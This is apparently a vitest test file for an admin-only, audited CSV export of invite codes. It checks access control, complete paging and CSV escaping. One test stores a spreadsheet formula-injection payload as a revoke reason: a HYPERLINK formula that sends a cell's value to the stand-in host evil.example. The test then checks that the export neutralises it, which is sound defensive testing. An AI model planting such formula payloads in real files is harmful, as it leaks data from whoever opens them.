// Exporting codes as CSV: admins only, audited, streamed in keyset pages so every code arrives exactly once.
import { describe, expect, it } from "vitest";
import { useTestApp } from "../support/app-server.ts";
import { createStaff, sessionTokenFor } from "../support/staff.ts";
import { callerFor } from "../support/caller.ts";
import { CODES_CSV_HEADER } from "../../server/domain/invites/codes.ts";

describe("GET /exports/invite-codes.csv", () => {
  const app = useTestApp();

  it("streams a wave's or a batch's codes to an admin, once each, and audits the export", async () => {
    const admin = await createStaff(app.db, "admin");
    const api = callerFor(app.db, admin);
    const wave = await api.inviteWave.create({ name: 'Spring, "creators"', targetSize: 20_000, usesPerCode: 2 });
    const big = await api.inviteWave.issueBatch({ waveId: wave.id, count: 7_500 });
    await api.inviteWave.issueBatch({ waveId: wave.id, count: 40 });
    const revokedCode = (await app.db.prisma.inviteCode.findFirstOrThrow({ where: { batchId: big.id } })).code;
    await api.inviteWave.revoke({ type: "code", codes: [revokedCode], reason: 'Leaked, "oops"' });
    const cookie = `vigil_session=${await sessionTokenFor(app.db, admin)}`;
    const { url } = await api.inviteWave.exportUrl({ waveId: wave.id });

    const res = await fetch(`${app.base}${url}`, { headers: { cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="invite-codes-spring-creators.csv"');
    const text = await res.text();
    expect(text.startsWith(CODES_CSV_HEADER)).toBe(true);
    const lines = text.trimEnd().split("\n").slice(1);
    expect(lines).toHaveLength(7_540);
    const codes = lines.map((l) => l.split(",")[0]);
    expect(new Set(codes).size).toBe(7_540);
    expect(codes.sort()).toEqual(
      (await app.db.prisma.inviteCode.findMany({ where: { waveId: wave.id }, select: { code: true } }))
        .map((c) => c.code)
        .sort(),
    );
    expect(lines.find((l) => l.startsWith(revokedCode))).toMatch(/,revoked,2,0,.*,"Leaked, ""oops"""$/);
    const audit = await app.db.prisma.auditLog.findFirstOrThrow({
      where: { action: "invite_codes.export", subjectId: wave.id },
    });
    expect(audit).toMatchObject({ actorId: admin.id, details: { waveId: wave.id, batchId: null, rows: 7_540 } });

    const oneBatch = await fetch(
      `${app.base}${(await api.inviteWave.exportUrl({ waveId: wave.id, batchId: big.id })).url}`,
      { headers: { cookie } },
    );
    expect((await oneBatch.text()).trimEnd().split("\n")).toHaveLength(7_501);
  });

  it("refuses anyone but a signed-in admin, and bad parameters, writing no audit row", async () => {
    const admin = await createStaff(app.db, "admin");
    const wave = await callerFor(app.db, admin).inviteWave.create({ name: "Private", targetSize: 10, usesPerCode: 1 });
    const staffCookie = `vigil_session=${await sessionTokenFor(app.db, await createStaff(app.db, "staff"))}`;
    const adminCookie = `vigil_session=${await sessionTokenFor(app.db, admin)}`;
    const get = (query: string, cookie?: string) =>
      fetch(`${app.base}/exports/invite-codes.csv?${query}`, { headers: cookie ? { cookie } : {} });
    expect((await get(`waveId=${wave.id}`)).status).toBe(401);
    const forbidden = await get(`waveId=${wave.id}`, staffCookie);
    expect(forbidden.status).toBe(403);
    expect(((await forbidden.json()) as { error: string }).error).toMatch(/admin role/);
    const bad = await get("waveId=nope", adminCookie);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toMatch(/^waveId:/);
    expect((await get(`waveId=${crypto.randomUUID()}`, adminCookie)).status).toBe(404);
    expect((await get(`waveId=${wave.id}&batchId=${crypto.randomUUID()}`, adminCookie)).status).toBe(404);
    expect(await app.db.prisma.auditLog.count({ where: { action: "invite_codes.export", subjectId: wave.id } })).toBe(
      0,
    );
  });
});

describe("invite code CSV against spreadsheet formulas", () => {
  const NOW = new Date("2026-11-20T10:00:00Z");
  const app = useTestApp({ now: () => NOW });

  it("writes a revoke reason that looks like a formula as text, and the file still reads back", async () => {
    const admin = await createStaff(app.db, "admin");
    const api = callerFor(app.db, admin, { now: () => NOW });
    const wave = await api.inviteWave.create({ name: "Formulas", targetSize: 10, usesPerCode: 1 });
    const batch = await api.inviteWave.issueBatch({ waveId: wave.id, count: 3 });
    const codes = (
      await app.db.prisma.inviteCode.findMany({
        where: { batchId: batch.id },
        orderBy: { id: "asc" },
        select: { code: true },
      })
    ).map((c) => c.code);
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
    await api.inviteWave.revoke({ type: "code", codes: [codes[0]!], reason: hyperlink });
    await api.inviteWave.revoke({ type: "code", codes: [codes[1]!], reason: "@SUM(1+1)" });
    const cookie = `vigil_session=${await sessionTokenFor(app.db, admin, NOW)}`;

    const res = await fetch(`${app.base}${(await api.inviteWave.exportUrl({ waveId: wave.id })).url}`, {
      headers: { cookie },
    });
    expect(res.status).toBe(200);
    const lines = (await res.text()).trimEnd().split("\n").slice(1);
    const lineOf = (code: string) => lines.find((l) => l.startsWith(code))!;
    expect(lineOf(codes[0]!).endsWith(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")"`)).toBe(
      true,
    );
    expect(lineOf(codes[1]!).endsWith(",'@SUM(1+1)")).toBe(true);
    expect(lineOf(codes[2]!)).toMatch(/,active,1,0,/);
  });
});
